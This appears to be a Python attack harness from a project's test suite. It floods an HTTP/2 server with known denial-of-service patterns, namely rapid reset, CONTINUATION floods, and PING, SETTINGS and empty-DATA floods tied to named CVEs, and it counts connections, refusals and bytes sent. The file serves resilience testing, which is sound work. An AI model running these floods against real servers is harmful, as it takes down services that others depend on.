"""The attacker, a process of its own: opens connections and sends what no client should.

Reads an order (JSON, one line) and writes a count (JSON). A connection that the server ends is opened again,
up to a limit, so that an attack is bounded in time, in connections and in what it holds.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import os
import sys
import time
from typing import TYPE_CHECKING

from bench import frames
from tests.attack.network.target import Caller
from tests.attack.network.wire import VERIFY, Wire

if TYPE_CHECKING:
    from collections.abc import Callable, Generator, Iterator

    Form = Callable[[Wire], Iterator[bytes]]

_BATCH = 64  # frames in one write
_HOLD = 1.0  # seconds
_BIG_HEADER = 8_000  # bytes of header in a CONTINUATION frame


def _block(wire: Wire) -> bytes:
    return frames.plain_block(frames.call_headers(VERIFY, wire.authority))


def rapid_reset(wire: Wire) -> Iterator[bytes]:
    """Open streams and cancel each at once (CVE-2023-44487)."""
    block = _block(wire)
    for stream in itertools.count(1, 2 * _BATCH):
        yield b"".join(
            frames.headers(number, block) + frames.reset(number)
            for number in range(stream, stream + 2 * _BATCH, 2)
        )


def rapid_reset_late(wire: Wire) -> Iterator[bytes]:
    """Send whole calls, with a message that must be refused, and cancel each at once."""
    block = _block(wire)
    for stream in itertools.count(1, 2 * _BATCH):
        yield b"".join(
            frames.headers(number, block)
            + frames.data(number, frames.message(os.urandom(64)))
            + frames.reset(number)
            for number in range(stream, stream + 2 * _BATCH, 2)
        )


def continuation(wire: Wire) -> Iterator[bytes]:
    """Begin headers and never end them (CVE-2024-27316)."""
    yield frames.headers(1, _block(wire), end_headers=False)
    for number in itertools.count():
        yield frames.continuation(1, frames.plain_block([(f"x-{number}", "a" * _BIG_HEADER)]))


def continuation_empty(wire: Wire) -> Iterator[bytes]:
    """Begin headers and send CONTINUATION frames with nothing in them."""
    yield frames.headers(1, _block(wire), end_headers=False)
    empty = frames.continuation(1, b"") * _BATCH
    while True:
        yield empty


def ping(_wire: Wire) -> Iterator[bytes]:
    """Ask for an answer to PING after PING (CVE-2019-9512), and read none."""
    many = frames.ping() * _BATCH
    while True:
        yield many


def settings(_wire: Wire) -> Iterator[bytes]:
    """Change settings again and again (CVE-2019-9515), and read no acknowledgement."""
    many = (
        frames.settings({frames.Setting.INITIAL_WINDOW_SIZE: 65_535})
        + frames.settings({frames.Setting.INITIAL_WINDOW_SIZE: 32_768})
    ) * (_BATCH // 2)
    while True:
        yield many


def empty_data(wire: Wire) -> Iterator[bytes]:
    """Send DATA frames with nothing in them (CVE-2019-9518)."""
    yield frames.headers(1, _block(wire))
    many = frames.data(1, b"", end=False) * _BATCH
    while True:
        yield many


def unsettled(wire: Wire) -> Iterator[bytes]:
    """Flood with CONTINUATION without acknowledging the server's settings, so that its limits do not bind yet."""
    return continuation(wire)


def unsettled_reset(wire: Wire) -> Iterator[bytes]:
    """Open and cancel streams without acknowledging the server's settings."""
    return rapid_reset(wire)


UNSETTLED: dict[str, Form] = {form.__name__: form for form in (unsettled, unsettled_reset)}
SETTLED: dict[str, Form] = {
    form.__name__: form
    for form in (rapid_reset, rapid_reset_late, continuation, continuation_empty, ping, settings, empty_data)
}


class Attack:
    """One attack and its count."""

    def __init__(self, caller: Caller, form: Form, *, limit: int) -> None:
        self._caller, self._form = caller, form
        self._settles = form not in UNSETTLED.values()
        self._left = limit
        self.count = {"connections": 0, "refused": 0, "ended": 0, "bytes": 0}

    def connection(self) -> Generator[None]:
        """Attack on one connection after another; give way after each write."""
        while self._left:
            self._left -= 1
            self.count["connections"] += 1
            try:
                wire = Wire(self._caller)
                if self._settles:
                    wire.settle()
            except OSError:
                self.count["refused"] += 1
                yield
                continue
            wire.socket.settimeout(0.2)
            with contextlib.closing(wire):
                yield from self._flood(wire)

    def _flood(self, wire: Wire) -> Generator[None]:
        try:
            for part in self._form(wire):
                wire.send(part)
                self.count["bytes"] += len(part)
                yield
        except TimeoutError:  # the server reads no more: hold the connection for a while, then begin anew
            held = time.monotonic() + _HOLD
            while time.monotonic() < held:
                time.sleep(0.01)
                yield
        except OSError:
            self.count["ended"] += 1


def main() -> None:
    """Attack until the time is over."""
    order = json.loads(sys.stdin.readline())
    attack = Attack(Caller(**order["caller"]), (SETTLED | UNSETTLED)[order["name"]], limit=order["limit"])
    running = [attack.connection() for _ in range(order["connections"])]
    end = time.monotonic() + order["seconds"]
    while running and time.monotonic() < end:
        for connection in list(running):
            if next(connection, running) is running:
                running.remove(connection)
    for connection in running:
        connection.close()
    json.dump(attack.count, sys.stdout)


if __name__ == "__main__":
    main()
